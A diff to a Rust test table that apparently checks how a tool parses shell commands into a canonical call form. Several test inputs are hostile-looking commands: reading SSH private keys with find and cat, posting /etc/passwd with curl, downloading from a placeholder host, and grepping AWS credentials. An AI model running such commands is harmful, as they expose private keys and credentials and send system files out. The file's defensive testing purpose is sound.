@@ -84,7 +84,12 @@ lowers! {
         "find / -name id_rsa -exec cat {} \\;" =>
             r#"cat(find("/", "-name", "id_rsa")); find("/", "-name", "id_rsa", "-exec", "cat", "{}", ";")"#,
         "curl --data=@/etc/passwd --output=f u" =>
-            r#"curl("--data", <("/etc/passwd"), "--output", "f", "u")"#;
+            r#">("f", curl("--data", <("/etc/passwd"), "--output", "f", "u"))"#,
+        "curl -sSLo a https://h.invalid/b; wget -qO- u; wget https://h.invalid/b" =>
+            r#">("a", curl("-sSLo", "a", "https://h.invalid/b")); wget("-qO-", "u"); >("./b", wget("https://h.invalid/b"))"#,
+        "cat -n a b; grep -r key ~/.aws | head -n 1" =>
+            r#"<cat("a"), cat("b")>; head("-n", "1", stdin=grep("-r", "key", <("~/.aws")))"#,
+        "yarn publish" => "yarn.publish()";
 
     interpreters_are_canonical:
         "bash -lc 'echo hi' a" => r#"bash("-c", "echo hi", "a")"#,
